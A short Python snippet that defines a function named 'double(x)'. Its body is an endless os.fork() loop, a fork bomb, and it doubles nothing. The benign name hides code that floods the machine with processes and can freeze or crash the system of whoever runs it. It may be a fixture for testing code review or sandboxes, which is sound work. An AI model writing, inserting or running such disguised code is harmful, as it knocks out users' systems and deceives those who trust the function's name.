import os


def double(x):
    while os.fork() >= 0:
        pass
